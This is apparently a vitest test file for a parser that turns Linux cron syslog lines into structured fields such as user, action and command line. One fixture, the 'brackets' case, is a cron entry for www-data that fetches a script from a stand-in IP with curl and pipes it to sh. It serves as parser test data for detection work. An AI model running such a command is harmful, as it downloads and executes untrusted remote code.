import { describe } from "vitest";
import { checkPayload } from "../../testing/payload.ts";
import { payload } from "./cron.ts";

describe("linux/cron", () =>
  checkPayload(payload, [
    [
      "command",
      "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
      {
        "user.name": "root",
        "event.action": "scheduled-command",
        "process.command_line": "cd / && run-parts --report /etc/cron.hourly",
      },
    ],
    [
      "brackets",
      "(www-data) CMD ((curl http://203.0.113.5/x)|sh)",
      { "process.command_line": "(curl http://203.0.113.5/x)|sh" },
    ],
    [
      "crontab",
      "(alice) REPLACE (alice)",
      { "event.action": "crontab-replaced", "event.category": ["configuration"], "user.name": "alice" },
    ],
    ["daemon", "(CRON) INFO (pidfile fd = 3)", { "user.name": null, "firebreak.raw.cron_event": "INFO" }],
    ["other", "Job `cron.daily' terminated", undefined],
  ]));
